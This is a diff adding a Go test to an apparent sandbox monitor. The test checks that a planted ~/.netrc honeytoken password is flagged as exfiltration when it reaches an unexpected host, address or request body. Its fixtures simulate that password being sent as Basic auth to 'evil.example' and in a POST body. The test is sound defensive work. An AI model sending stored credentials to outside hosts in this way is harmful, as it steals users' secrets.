@@ -93,3 +93,46 @@ func TestFinishOutput(t *testing.T) {
 		t.Fatalf("%+v", res.Findings)
 	}
 }
+
+// TestNetrcToItsHost: requests (and curl -n) send ~/.netrc's login and
+// password as Basic auth to the host the entry names: not theft. The same
+// password anywhere else is: to another host, to another address naming
+// the host, in a body, or where the sink saw no such flow.
+func TestNetrcToItsHost(t *testing.T) {
+	const pw = "g9OEF2cVK6JbBCj5WUoRDXKS"
+	tok := moat.Event{Source: "moat", Kind: "honeytoken-planted", Name: "netrc-password", Data: pw, Path: "/home/dev/.netrc", Addr: "github.com"}
+	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("deploy:"+pw))
+	req := func(host string) string {
+		return `GET /user HTTP/1.1\r\nHost: ` + host + `\r\nAuthorization: ` + basic + `\r\n\r\n`
+	}
+	dns := func(host, ip string) moat.Event {
+		return moat.Event{Source: "network", Kind: "dns", Addr: "127.0.0.53:53", Name: host, Detail: "sinkholed A " + ip}
+	}
+	flow := func(addr, host, data string) moat.Event {
+		return moat.Event{Source: "network", Kind: "connect", Addr: addr, Name: host, Path: "/user",
+			Detail: "sinkholed tcp tls sni=" + host + " decrypted https GET host=" + host, Data: data}
+	}
+	hook := moat.Event{Source: "audit", Kind: "http", PID: 11, Detail: "sent",
+		Data: strings.ReplaceAll(req("github.com"), `\r\n`, `\x0d\x0a`)}
+	cases := []struct {
+		name string
+		evs  []moat.Event
+		sev  moat.Severity
+	}{
+		{"requests.get of the netrc host (sink and hook)", []moat.Event{tok, dns("github.com", "198.18.0.1"), hook,
+			flow("198.18.0.1:443", "github.com", req("github.com"))}, moat.SeverityLow},
+		{"to another host", []moat.Event{tok, dns("evil.example", "198.18.0.1"),
+			flow("198.18.0.1:443", "evil.example", req("evil.example"))}, moat.SeverityCritical},
+		{"to an address of its own, naming the host", []moat.Event{tok, dns("github.com", "198.18.0.1"),
+			flow("203.0.113.9:443", "github.com", req("github.com"))}, moat.SeverityCritical},
+		{"in a POST body to the host", []moat.Event{tok, dns("github.com", "198.18.0.1"),
+			flow("198.18.0.1:443", "github.com", `POST /x HTTP/1.1\r\nHost: github.com\r\n\r\nk=`+pw)}, moat.SeverityCritical},
+		{"the hook's copy alone, the sink saw no flow to the host", []moat.Event{tok, hook}, moat.SeverityCritical},
+	}
+	for _, c := range cases {
+		fs := Analyze(c.evs)
+		if sev, sum := exfil(fs); sev != c.sev {
+			t.Errorf("%s: exfiltration %q (%s), want %q", c.name, sev, sum, c.sev)
+		}
+	}
+}
